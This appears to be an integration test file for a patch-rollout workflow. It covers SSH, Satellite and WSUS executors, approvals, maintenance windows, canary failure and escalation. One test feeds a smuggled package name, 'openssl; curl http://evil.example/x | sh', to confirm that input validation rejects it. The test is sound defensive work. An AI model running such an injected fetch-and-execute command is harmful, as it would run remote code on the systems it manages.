// The patch rollout workflow on the real Temporal server and PostgreSQL, driving the real executors:
// SSH against real sshds with package-manager shims, Satellite against the local Katello server,
// WSUS through an sshd with the powershell shim. Plan → approval → window → canary → the rest →
// evidence → verifying re-scan, and the failure paths that stop and escalate.
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { WorkflowFailedError, WorkflowUpdateFailedError, type WorkflowHandle } from '@temporalio/client';
import { MockActivityEnvironment } from '@temporalio/testing';
import type { Worker } from '@temporalio/worker';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { configSchema, type Config } from '../../domain/config.ts';
import { createPatchingActivities } from '../../activities/patching.ts';
import type { PatchTarget, RescanRequest } from '../../domain/ports.ts';
import type { IntegrationRegistry } from '../../app/integrations.ts';
import {
  approvePatchUpdate,
  patchRolloutQuery,
  patchRolloutWorkflowId,
  patchRolloutWorkflowType,
  rejectPatchUpdate,
  type PatchRolloutInput,
  type PatchRolloutResult,
  type PatchRolloutStatus,
  type PatchRolloutView,
} from '../../contracts/patch.ts';
import { testDatabase, type TestDatabase } from '../support/db.ts';
import { testSshd, type Sshd } from '../support/sshd.ts';
import { testTemporal, type TestTemporal } from '../support/temporal.ts';
import { startFakeSatellite, type FakeSatellite } from '../fakes/satellite.ts';
import { jobTag } from '../../patching/satellite/executor.ts';
import { becomeHost, hostState, type FakeHostState } from './fakeHost.ts';
import { powershellShim, setWsusState, wsusState } from './fakeWsus.ts';
import { testDeps } from '../support/deps.ts';
import { keepWorkflowHistory } from '../lifecycle/support.ts';

const hhmm = (d: Date) => d.toISOString().slice(11, 16);
const allDays = ['mon', 'tue', 'wed', 'thu', 'fri', 'sat', 'sun'];

let db: TestDatabase;
let temporal: TestTemporal;
let registry: (builtIn: IntegrationRegistry) => IntegrationRegistry;
let hostA: Sshd; // web-01, the canary
let hostB: Sshd; // web-02 and web-03
let wsus: Sshd;
let satellite: FakeSatellite;
let worker: Worker;
let taskQueue: string;
let running: Promise<void>;
let config: Config;
const now = new Date();
const rescanRequests: RescanRequest[] = [];
const closedOpensAt = new Date(now.getTime() + 3 * 3_600_000);

const debian = (sshd: Sshd, extra: Partial<FakeHostState> = {}): FakeHostState => ({
  packages: { openssl: '3.0.11-1~deb12u1', libssl3: '3.0.11-1~deb12u1' },
  candidates: { openssl: '3.0.11-1~deb12u2', libssl3: '3.0.11-1~deb12u2' },
  rebootFlagFile: path.join(sshd.stateDir, 'reboot-required'),
  ...extra,
});

beforeAll(async () => {
  db = await testDatabase();
  temporal = await testTemporal();
  hostA = await testSshd();
  // One patching key for every host, as in production: the other sshds authorize hostA's client key.
  [hostB, wsus] = await Promise.all([
    testSshd({ authorizedKeys: [hostA.publicKey] }),
    testSshd({ shims: { powershell: powershellShim }, authorizedKeys: [hostA.publicKey] }),
  ]);
  satellite = await startFakeSatellite({
    username: 'ctem',
    password: 'pat-rollout-token',
    hosts: [{ id: 12, name: 'rhel9-db-01.example.com' }],
    errata: [
      {
        id: 5101,
        errata_id: 'RHSA-2024:0310',
        title: 'Moderate: openssl security update',
        type: 'security',
        severity: 'Moderate',
        issued: '2024-01-22',
        reboot_suggested: false,
        cves: ['CVE-2023-5678'],
        packages: ['openssl-1:3.0.7-25.el9_3.x86_64'],
        applicableTo: [12],
        installableOn: [12],
      },
    ],
  });
  process.env.CTEM_TEST_SATELLITE_TOKEN = 'pat-rollout-token';
  // The scanner connectors are another family's; this one records what the ScanConnector port is asked.
  registry = (builtIn) => ({
    ...builtIn,
    scanners: {
      ...builtIn.scanners,
      'patch-test-rescans': () => ({
        name: 'patch-test-rescans',
        rescan: async (req: RescanRequest) => {
          rescanRequests.push(req);
          return { requestId: req.requestId, status: 'queued' };
        },
      }),
    },
  });
  const knownHosts = path.join(hostA.dir, 'known_hosts.all'); // removed with hostA's sandbox
  await writeFile(
    knownHosts,
    [hostA, hostB, wsus].map((s) => `[127.0.0.1]:${s.port} ${s.hostPublicKey}`).join('\n') + '\n',
  );
  const ssh = (s: Sshd) => ({ address: '127.0.0.1', port: s.port });
  const people = ['alice', 'bob', 'sam', 'mallory'].map((id) => ({ id, name: id }));
  const roles = { owner: ['bob'], approver: ['alice'], securityLead: ['sam'] };
  const openWindow = {
    days: allDays,
    start: hhmm(new Date(now.getTime() - 3_600_000)),
    end: hhmm(new Date(now.getTime() + 2 * 3_600_000)),
    timezone: 'UTC',
  };
  config = configSchema.parse({
    version: 1,
    people,
    scopes: [
      {
        name: 'prod',
        roles,
        maintenanceWindow: openWindow,
        patch: { executor: 'ssh', canary: 1, concurrency: 2 },
        scan: { connector: 'patch-test-rescans' },
      },
      { name: 'dev', roles, patch: { executor: 'ssh', autoApprove: true } },
      {
        name: 'frozen',
        roles,
        maintenanceWindow: {
          days: allDays,
          start: hhmm(closedOpensAt),
          end: hhmm(new Date(closedOpensAt.getTime() + 3_600_000)),
          timezone: 'UTC',
        },
        patch: { executor: 'ssh', autoApprove: true },
      },
      { name: 'rhel', roles, maintenanceWindow: openWindow, patch: { executor: 'satellite' } },
      {
        name: 'windows',
        roles,
        maintenanceWindow: openWindow,
        patch: { executor: 'wsus', targetGroup: 'Production Servers' },
      },
    ],
    integrations: {
      console: {},
      ssh: {
        user: hostA.user,
        privateKey: `file:${hostA.privateKeyPath}`,
        knownHosts,
        hosts: { 'web-01': ssh(hostA), 'web-02': ssh(hostB), 'web-03': ssh(hostB) },
        rebootRequiredFile: path.join(hostB.stateDir, 'reboot-required'),
      },
      satellite: {
        url: satellite.url,
        username: 'ctem',
        password: 'env:CTEM_TEST_SATELLITE_TOKEN',
        pollInterval: '0s',
      },
      wsus: {
        server: 'wsus01.example.com',
        ssh: {
          user: wsus.user,
          privateKey: `file:${hostA.privateKeyPath}`,
          knownHosts,
          hosts: { 'wsus01.example.com': ssh(wsus) },
        },
      },
    },
  });
  taskQueue = temporal.taskQueue('patch');
  worker = await temporal.worker({ taskQueue, pool: db.pool, config, registry });
  running = worker.run();
});

afterAll(async () => {
  worker?.shutdown();
  await running;
  await satellite?.close();
});

const exposure = (assetId: number, cve = 'CVE-2023-5678') => ({
  exposureId: `${assetId}:${cve}`,
  assetId,
  weaknessKey: cve,
});
/**
 * The exposures a campaign hands its rollout are rows (assets and exposures) by then: the rollout's
 * audit trail attaches to those rows, per host to the exposures on that host's asset.
 */
async function recordExposures(scope: string, list: ReturnType<typeof exposure>[]): Promise<void> {
  await db.pool.query('insert into scopes (name) values ($1) on conflict do nothing', [scope]);
  for (const e of list) {
    await db.pool.query(
      `insert into assets (id, identity_key, kind, hostname, scope) values ($1, $2, 'host', $2, $3)`,
      [e.assetId, `host:asset-${e.assetId}`, scope],
    );
    await db.pool.query(
      `insert into exposures (id, asset_id, vuln_key, scope, state, first_seen, last_seen)
       values ($1, $2, $3, $4, 'open', now(), now())`,
      [e.exposureId, e.assetId, e.weaknessKey, scope],
    );
  }
}
const openssl = (host: string, assetId: number): PatchTarget => ({
  assetId,
  host,
  packages: [
    { name: 'openssl', fixedVersion: '3.0.11-1~deb12u2' },
    { name: 'libssl3', fixedVersion: '3.0.11-1~deb12u2' },
  ],
  cves: ['CVE-2023-5678'],
});

let counter = 0;
async function startRollout(
  input: Omit<PatchRolloutInput, 'campaignId'> & { campaignId?: string },
): Promise<WorkflowHandle> {
  counter++;
  // As a campaign starts it: its first approval round, standalone (the re-scans requested here).
  const campaignId = input.campaignId ?? `cmp:${input.scope}:test:${counter}-${taskQueue}`;
  return await temporal.client.workflow.start(patchRolloutWorkflowType, {
    taskQueue,
    workflowId: patchRolloutWorkflowId(campaignId, 1, 1),
    args: [{ ...input, campaignId }],
  });
}

async function waitForStatus(
  handle: WorkflowHandle,
  status: PatchRolloutStatus,
  timeoutMs = 30_000,
): Promise<PatchRolloutView> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const view = await handle.query(patchRolloutQuery);
    if (view.status === status) return view;
    if (Date.now() > deadline)
      throw new Error(
        `rollout stayed ${view.status}, never ${status}: ${JSON.stringify(view.failure ?? '')}`,
      );
    await new Promise((r) => setTimeout(r, 200));
  }
}

/** The activity failure's message inside a failed workflow. */
const causeMessage = (err: unknown) =>
  String(((err as WorkflowFailedError).cause as (Error & { cause?: Error }) | undefined)?.cause?.message);

const installs = async (sshd: Sshd) => (await sshd.calls('apt-get')).filter((c) => c.argv[0] === 'install');
const eventTypes = async (exposureId: string) =>
  (
    await db.pool.query<{ type: string; actor: string }>(
      'select type, actor from events where exposure_id = $1 order by id',
      [exposureId],
    )
  ).rows;

describe('patch rollout workflow', () => {
  it('SSH: plans, waits for an authorized approval, patches the canary then the rest in the window, records evidence and requests the re-scan', async () => {
    await becomeHost(hostA, 'apt', debian(hostA));
    await becomeHost(hostB, 'apt', debian(hostB, { rebootAfterUpgrade: true }));
    const exposures = [exposure(101), exposure(102), exposure(103)];
    await recordExposures('prod', exposures);
    const handle = await startRollout({
      scope: 'prod',
      targets: [openssl('web-01', 101), openssl('web-02', 102), openssl('web-03', 103)],
      exposures,
    });
    const waiting = await waitForStatus(handle, 'awaiting-approval');
    expect(waiting.hosts).toEqual([
      { host: 'web-01', status: 'pending', canary: true },
      { host: 'web-02', status: 'pending', canary: false },
      { host: 'web-03', status: 'pending', canary: false },
    ]);
    expect(waiting.plan!.summary).toContain('upgrade openssl 3.0.11-1~deb12u1 → 3.0.11-1~deb12u2');
    expect(waiting.approvers).toEqual(['alice', 'sam']);
    // Nothing has changed anywhere yet.
    expect([...(await installs(hostA)), ...(await installs(hostB))]).toEqual([]);
    const request = await db.pool.query<{ kind: string; recipients: string[] }>(
      `select kind, recipients from notifications where key like $1`,
      [`%:patch-approval:${handle.workflowId}`],
    );
    expect(request.rows).toEqual([{ kind: 'decision-request', recipients: ['alice', 'sam'] }]);

    const refused = await handle
      .executeUpdate(approvePatchUpdate, { args: [{ actor: { personId: 'mallory', via: 'slack' } }] })
      .catch((e: unknown) => e);
    expect(refused).toBeInstanceOf(WorkflowUpdateFailedError);
    expect((refused as WorkflowUpdateFailedError).cause?.message).toBe(
      'mallory may not approve patches in scope prod; approvers: alice, sam',
    );
    expect((await handle.query(patchRolloutQuery)).status).toBe('awaiting-approval');
    await handle.executeUpdate(approvePatchUpdate, {
      args: [{ actor: { personId: 'alice', via: 'slack' }, comment: 'go' }],
    });
    const result = (await handle.result()) as PatchRolloutResult;

    expect(result.status).toBe('succeeded');
    expect(result.hosts.map((h) => [h.host, h.ok])).toEqual([
      ['web-01', true],
      ['web-02', true],
      ['web-03', true],
    ]);
    expect(result.hosts.find((h) => h.host === 'web-02')!.rebootRequired).toBe(true);
    expect((await hostState(hostA)).packages.openssl).toBe('3.0.11-1~deb12u2');
    expect((await hostState(hostB)).packages.openssl).toBe('3.0.11-1~deb12u2');

    // The canary finished before the others started; the others ran side by side (concurrency 2).
    const jobs = (
      await db.pool.query<{
        host: string;
        status: string;
        started_at: Date;
        finished_at: Date;
        output: string;
      }>(
        'select host, status, started_at, finished_at, output from patch_jobs where rollout_id = $1 order by host',
        [handle.workflowId],
      )
    ).rows;
    expect(jobs.map((j) => [j.host, j.status])).toEqual([
      ['web-01', 'succeeded'],
      ['web-02', 'succeeded'],
      ['web-03', 'succeeded'],
    ]);
    expect(jobs[0]!.finished_at.getTime()).toBeLessThanOrEqual(jobs[1]!.started_at.getTime());
    expect(jobs[0]!.finished_at.getTime()).toBeLessThanOrEqual(jobs[2]!.started_at.getTime());
    expect(jobs[0]!.output).toContain('$ apt-get install --only-upgrade -y -q');
    expect(jobs[0]!.output).toContain('Setting up openssl (3.0.11-1~deb12u2) ...');

    const rollout = (
      await db.pool.query('select status, decided_by, executor from patch_rollouts where id = $1', [
        handle.workflowId,
      ])
    ).rows[0];
    expect(rollout).toEqual({ status: 'succeeded', decided_by: 'alice', executor: 'ssh' });
    expect(await eventTypes('101:CVE-2023-5678')).toEqual(
      expect.arrayContaining([
        { type: 'patch-planned', actor: 'system' },
        { type: 'patch-approved', actor: 'alice' },
        { type: 'patch-host-succeeded:web-01', actor: 'system' },
        { type: 'patch-succeeded', actor: 'system' },
      ]),
    );

    // The verifying re-scan is requested for each exposure, counting only scans after the fix.
    const rescans = (
      await db.pool.query<{ request_id: string; not_before: Date; ticket: { status: string } }>(
        'select request_id, not_before, ticket from rescan_requests where request_id like $1 order by request_id',
        [`${handle.workflowId}:verify:%`],
      )
    ).rows;
    expect(rescans.map((r) => r.request_id)).toEqual(
      exposures.map((e) => `${handle.workflowId}:verify:${e.exposureId}`),
    );
    expect(rescans[0]!.not_before.toISOString()).toBe(result.finishedAt);
    expect(result.rescans.map((r) => r.status)).toEqual(['queued', 'queued', 'queued']);
    expect(
      rescanRequests
        .filter((r) => r.requestId.startsWith(handle.workflowId))
        .sort((a, b) => a.requestId.localeCompare(b.requestId)),
    ).toEqual(
      exposures.map((e) => ({
        requestId: `${handle.workflowId}:verify:${e.exposureId}`,
        scope: 'prod',
        assetIds: [e.assetId],
        weaknessKeys: ['CVE-2023-5678'],
        notBefore: result.finishedAt,
      })),
    );
    // A host's evidence goes to the exposures on that host only.
    const onWeb02 = (await eventTypes('102:CVE-2023-5678')).map((e) => e.type);
    expect(onWeb02).toContain('patch-host-succeeded:web-02');
    expect(onWeb02).not.toContain('patch-host-succeeded:web-01');
    expect(onWeb02).toContain('rescan-requested');
    await keepWorkflowHistory(temporal.client, handle.workflowId, 'patch-rollout-canary-then-rest');
  });

  it('SSH: a failed canary stops the rollout, leaves the other hosts untouched and escalates', async () => {
    await becomeHost(hostA, 'apt', debian(hostA, { failUpgrade: true }));
    await becomeHost(hostB, 'apt', debian(hostB));
    const exposures = [exposure(201), exposure(202), exposure(203)];
    await recordExposures('prod', exposures);
    const handle = await startRollout({
      scope: 'prod',
      targets: [openssl('web-01', 201), openssl('web-02', 202), openssl('web-03', 203)],
      exposures,
    });
    await waitForStatus(handle, 'awaiting-approval');
    await handle.executeUpdate(approvePatchUpdate, { args: [{ actor: { personId: 'sam', via: 'teams' } }] });
    const result = (await handle.result()) as PatchRolloutResult;
    expect(result.status).toBe('failed');
    expect(result.escalated).toBe(true);
    expect(result.summary).toContain(
      'failed on web-01 (the canary); the rollout stopped, 2 host(s) left untouched',
    );
    expect(result.rescans).toEqual([]);
    expect(await installs(hostB)).toEqual([]);
    expect((await handle.query(patchRolloutQuery)).hosts.map((h) => h.status)).toEqual([
      'failed',
      'skipped',
      'skipped',
    ]);
    const jobs = (
      await db.pool.query('select host, status from patch_jobs where rollout_id = $1', [handle.workflowId])
    ).rows;
    expect(jobs).toEqual([{ host: 'web-01', status: 'failed' }]);
    const escalation = (
      await db.pool.query<{
        kind: string;
        level: number;
        recipients: string[];
        receipt: { delivered: unknown[] };
      }>('select kind, level, recipients, receipt from notifications where key like $1', [
        `%:patch-failed:${handle.workflowId}`,
      ])
    ).rows;
    expect(escalation).toHaveLength(1);
    expect(escalation[0]).toMatchObject({ kind: 'escalation', level: 1, recipients: ['bob', 'sam'] });
    expect(escalation[0]!.receipt.delivered).toHaveLength(1);
    expect((await eventTypes('201:CVE-2023-5678')).map((e) => e.type)).toEqual(
      expect.arrayContaining(['patch-host-failed:web-01', 'patch-failed', 'notified']),
    );
    await keepWorkflowHistory(temporal.client, handle.workflowId, 'patch-rollout-failed-canary');
  });

  it('SSH: a scope that auto-approves patches without waiting for a person', async () => {
    await becomeHost(hostA, 'apt', debian(hostA));
    const handle = await startRollout({
      scope: 'dev',
      targets: [openssl('web-01', 301)],
      exposures: [exposure(301)],
    });
    const result = (await handle.result()) as PatchRolloutResult;
    expect(result.status).toBe('succeeded');
    expect((await handle.query(patchRolloutQuery)).decision).toMatchObject({ by: 'policy', approved: true });
    expect(
      (await db.pool.query('select decided_by from patch_rollouts where id = $1', [handle.workflowId])).rows,
    ).toEqual([{ decided_by: 'policy' }]);
  });

  it('waits for the maintenance window before touching anything', async () => {
    await becomeHost(hostA, 'apt', debian(hostA));
    const handle = await startRollout({
      scope: 'frozen',
      targets: [openssl('web-01', 401)],
      exposures: [exposure(401)],
    });
    const view = await waitForStatus(handle, 'waiting-for-window');
    const expected = new Date(closedOpensAt);
    expected.setUTCSeconds(0, 0);
    expect(view.windowOpensAt).toBe(expected.toISOString());
    expect(view.decision).toMatchObject({ by: 'policy' });
    expect(await installs(hostA)).toEqual([]);
    expect(
      (
        await db.pool.query('select count(*)::int as n from patch_jobs where rollout_id = $1', [
          handle.workflowId,
        ])
      ).rows[0],
    ).toEqual({ n: 0 });
    await handle.terminate('test over');
  });

  it('a rejected plan changes nothing', async () => {
    await becomeHost(hostA, 'apt', debian(hostA));
    const handle = await startRollout({
      scope: 'prod',
      targets: [openssl('web-01', 501)],
      exposures: [exposure(501)],
    });
    await waitForStatus(handle, 'awaiting-approval');
    await handle.executeUpdate(rejectPatchUpdate, {
      args: [{ actor: { personId: 'alice', via: 'dashboard' }, comment: 'not during the sale' }],
    });
    const result = (await handle.result()) as PatchRolloutResult;
    expect(result).toMatchObject({
      status: 'rejected',
      summary: expect.stringContaining('rejected by alice: not during the sale'),
    });
    expect(await installs(hostA)).toEqual([]);
    await keepWorkflowHistory(temporal.client, handle.workflowId, 'patch-rollout-rejected');
  });

  it('a dry run that cannot reach the fix is escalated instead of asking for approval', async () => {
    await becomeHost(hostA, 'apt', debian(hostA, { candidates: {} }));
    const handle = await startRollout({
      scope: 'prod',
      targets: [openssl('web-01', 601)],
      exposures: [exposure(601)],
    });
    const result = (await handle.result()) as PatchRolloutResult;
    expect(result.status).toBe('blocked');
    expect(result.escalated).toBe(true);
    expect(result.summary).toContain('the repositories do not carry the fix yet');
    expect(
      (await db.pool.query('select status from patch_rollouts where id = $1', [handle.workflowId])).rows,
    ).toEqual([{ status: 'blocked' }]);
    expect(
      (
        await db.pool.query(`select count(*)::int as n from notifications where key like $1`, [
          `%:patch-approval:${handle.workflowId}`,
        ])
      ).rows[0],
    ).toEqual({ n: 0 });
  });

  it('hostile scanner data fails the rollout at planning, escalated, with nothing run', async () => {
    await becomeHost(hostA, 'apt', debian(hostA));
    const handle = await startRollout({
      scope: 'dev',
      targets: [
        { ...openssl('web-01', 701), packages: [{ name: 'openssl; curl http://evil.example/x | sh' }] },
      ],
      exposures: [exposure(701)],
    });
    const err = await handle.result().catch((e: unknown) => e);
    expect(err).toBeInstanceOf(WorkflowFailedError);
    expect(causeMessage(err)).toContain('is not a valid apt package name');
    expect(await hostA.calls()).toEqual([]);
    const history = await handle.fetchHistory();
    const attempts = history
      .events!.filter((e) => e.activityTaskStartedEventAttributes)
      .map((e) => e.activityTaskStartedEventAttributes!.attempt);
    expect(attempts.every((a) => a === 1)).toBe(true); // refused at once, not retried
    expect(
      (
        await db.pool.query(`select kind from notifications where key like $1`, [
          `%:patch-plan-failed:${handle.workflowId}`,
        ])
      ).rows,
    ).toEqual([{ kind: 'escalation' }]);
  });

  it('Satellite: plan, approval, errata job in the window, job output as evidence, re-scan requested', async () => {
    const handle = await startRollout({
      scope: 'rhel',
      targets: [
        {
          assetId: 801,
          host: 'rhel9-db-01.example.com',
          packages: [{ name: 'openssl' }],
          cves: ['CVE-2023-5678'],
        },
      ],
      exposures: [exposure(801)],
    });
    const view = await waitForStatus(handle, 'awaiting-approval');
    expect(view.plan!.steps[0]!.description).toContain('Errata search query: errata_id ^ (RHSA-2024:0310)');
    expect(satellite.jobs).toEqual([]);
    await handle.executeUpdate(approvePatchUpdate, {
      args: [{ actor: { personId: 'alice', via: 'slack' } }],
    });
    const result = (await handle.result()) as PatchRolloutResult;
    expect(result.status).toBe('succeeded');
    expect(result.hosts[0]).toMatchObject({ host: 'rhel9-db-01.example.com', ok: true, jobId: '1001' });
    expect(satellite.jobs.map((j) => [j.hostName, j.errataIds, j.status])).toEqual([
      ['rhel9-db-01.example.com', ['RHSA-2024:0310'], 'succeeded'],
    ]);
    const job = (
      await db.pool.query('select status, remote_job_id, output from patch_jobs where rollout_id = $1', [
        handle.workflowId,
      ])
    ).rows[0];
    expect(job).toMatchObject({ status: 'succeeded', remote_job_id: '1001' });
    expect(job.output).toContain('Upgrading        : openssl-1:3.0.7-25.el9_3.x86_64');
    expect(
      (
        await db.pool.query('select count(*)::int as n from rescan_requests where request_id = $1', [
          `${handle.workflowId}:verify:801:CVE-2023-5678`,
        ])
      ).rows[0],
    ).toEqual({ n: 1 });
    await keepWorkflowHistory(temporal.client, handle.workflowId, 'patch-rollout-satellite');
  });

  it('WSUS: plan, approval, KB approvals for the target group, JSON report as evidence, re-scan requested', async () => {
    await setWsusState(wsus, {
      server: 'WSUS01',
      groups: ['All Computers', 'Production Servers'],
      computers: { 'app-01.example.com': ['All Computers', 'Production Servers'] },
      updates: [
        {
          kb: 'KB5034439',
          updateId: '5c3b2bd6-9a14-4c8f-8b8e-0c2f1a0f6a11',
          title: '2024-01 Security Update for Windows Server 2022 (KB5034439)',
        },
      ],
      approvals: {},
    });
    const handle = await startRollout({
      scope: 'windows',
      targets: [
        {
          assetId: 901,
          host: 'app-01.example.com',
          packages: [],
          advisories: ['KB5034439'],
          cves: ['CVE-2024-20666'],
        },
      ],
      exposures: [exposure(901, 'CVE-2024-20666')],
    });
    const view = await waitForStatus(handle, 'awaiting-approval');
    expect(view.plan!.summary).toContain(
      'KB5034439: 2024-01 Security Update for Windows Server 2022 (KB5034439) — will be approved for Install',
    );
    expect((await wsusState(wsus)).approvals).toEqual({});
    await handle.executeUpdate(approvePatchUpdate, {
      args: [{ actor: { personId: 'alice', via: 'teams' } }],
    });
    const result = (await handle.result()) as PatchRolloutResult;
    expect(result.status).toBe('succeeded');
    expect((await wsusState(wsus)).approvals).toEqual({
      '5c3b2bd6-9a14-4c8f-8b8e-0c2f1a0f6a11': ['Production Servers'],
    });
    const job = (
      await db.pool.query('select output from patch_jobs where rollout_id = $1', [handle.workflowId])
    ).rows[0];
    expect(job.output).toContain('"approvedNow":true');
    expect(
      (
        await db.pool.query('select count(*)::int as n from rescan_requests where request_id like $1', [
          `${handle.workflowId}:verify:%`,
        ])
      ).rows[0],
    ).toEqual({ n: 1 });
  });

  it('SSH: a host whose key changed is refused at once and the rollout escalates', async () => {
    await becomeHost(hostA, 'apt', debian(hostA));
    await hostA.rotateHostKey();
    const handle = await startRollout({
      scope: 'dev',
      targets: [openssl('web-01', 1001)],
      exposures: [exposure(1001)],
    });
    const err = await handle.result().catch((e: unknown) => e);
    expect(err).toBeInstanceOf(WorkflowFailedError);
    expect(causeMessage(err)).toContain('has CHANGED');
    expect(await hostA.calls()).toEqual([]);
    expect((await handle.query(patchRolloutQuery)).failure).toContain(
      'planning failed: the host key of web-01',
    );
  });
});

describe('per-scope concurrency across rollouts', () => {
  it('grants at most the limit of applying hosts per scope, and frees a slot when a job ends or its lease runs out', async () => {
    const acts = createPatchingActivities(testDeps({ pool: db.pool, config, registry }));
    const plan = {
      executor: 'ssh',
      rolloutId: 'u',
      targets: [openssl('web-01', 1), openssl('web-02', 2)],
      summary: '',
      steps: [],
    };
    for (const id of ['slots-r1', 'slots-r2'])
      await db.pool.query(
        `insert into patch_rollouts (id, campaign_id, scope, executor, plan, summary, status) values ($1, $1, 'slots', 'ssh', $2, '', 'approved')`,
        [id, JSON.stringify(plan)],
      );
    const claim = (rolloutId: string, host: string) =>
      acts.claimPatchSlot({ rolloutId, scope: 'slots', host, limit: 1, leaseMs: 60_000 });
    expect(await claim('slots-r1', 'web-01')).toEqual({ granted: true, holders: 1 });
    expect(await claim('slots-r2', 'web-02')).toEqual({ granted: false, holders: 1 });
    expect(await claim('slots-r1', 'web-01')).toEqual({ granted: true, holders: 1 }); // a retried claim keeps its slot
    await acts.failPatchHost({ rolloutId: 'slots-r1', host: 'web-01', reason: 'test' });
    expect(await claim('slots-r2', 'web-02')).toEqual({ granted: true, holders: 1 });
    expect(await claim('slots-r1', 'web-01')).toEqual({ granted: true, holders: 1, finished: 'failed' });
    // A rollout that died holding a slot frees it when the lease runs out.
    await db.pool.query(
      `update patch_jobs set lease_until = now() - interval '1 second' where rollout_id = 'slots-r2'`,
    );
    await db.pool.query(`update patch_rollouts set status = 'approved' where id = 'slots-r1'`);
    await db.pool.query(`delete from patch_jobs where rollout_id = 'slots-r1'`);
    expect(await claim('slots-r1', 'web-01')).toEqual({ granted: true, holders: 1 });
  });

  it('a rollout planned by the previous release (its plan named by unit) follows the Satellite job it started', async () => {
    const acts = createPatchingActivities(testDeps({ pool: db.pool, config, registry }));
    const host = 'rhel9-db-01.example.com';
    const unitId = `ru:rhel:legacy:${taskQueue}`;
    const rolloutId = `patch-${unitId}-1`;
    // The plan as the previous release recorded it: keyed by its unit, no rolloutId.
    const plan = {
      executor: 'satellite',
      unitId,
      targets: [
        { assetId: 1101, host, packages: [], advisories: ['RHSA-2024:0310'], cves: ['CVE-2023-5678'] },
      ],
      summary: '',
      steps: [],
    };
    await db.pool.query(
      `insert into patch_rollouts (id, campaign_id, scope, executor, exposure_ids, plan, summary, status)
       values ($1, $2, 'rhel', 'satellite', '{}', $3, '', 'approved')`,
      [rolloutId, unitId, JSON.stringify(plan)],
    );
    // Its apply started the job before the upgrade (tagged with the unit), then the worker stopped.
    const started = await fetch(`${satellite.url}/api/v2/job_invocations`, {
      method: 'POST',
      headers: {
        authorization: `Basic ${Buffer.from('ctem:pat-rollout-token').toString('base64')}`,
        'content-type': 'application/json',
      },
      body: JSON.stringify({
        job_invocation: {
          feature: 'katello_errata_install_by_search',
          inputs: { 'Errata search query': 'errata_id ^ (RHSA-2024:0310)' },
          targeting_type: 'static_query',
          search_query: `name = ${host}`,
          description_format: `Install errata RHSA-2024:0310 (${jobTag(unitId, host)})`,
        },
      }),
    });
    expect(started.status).toBe(201);
    const job = (await started.json()) as { id: number };
    const jobsBefore = satellite.jobs.length;

    expect(
      await acts.claimPatchSlot({ rolloutId, scope: 'rhel', host, limit: 2, leaseMs: 60_000 }),
    ).toMatchObject({ granted: true });
    const outcome = await new MockActivityEnvironment().run(acts.applyPatchToHost, { rolloutId, host });
    expect(outcome).toMatchObject({ host, ok: true, jobId: String(job.id) });
    expect(satellite.jobs).toHaveLength(jobsBefore);
  });

  it('refuses a slot to a rollout nobody approved', async () => {
    const acts = createPatchingActivities(testDeps({ pool: db.pool, config, registry }));
    await db.pool.query(
      `insert into patch_rollouts (id, campaign_id, scope, executor, plan, summary, status) values ('unapproved', 'u', 'slots2', 'ssh', '{"targets":[],"steps":[]}', '', 'awaiting-approval')`,
    );
    await expect(
      acts.claimPatchSlot({
        rolloutId: 'unapproved',
        scope: 'slots2',
        host: 'web-01',
        limit: 5,
        leaseMs: 1000,
      }),
    ).rejects.toThrow('patch rollout unapproved is awaiting-approval, not approved: nothing may be applied');
  });
});
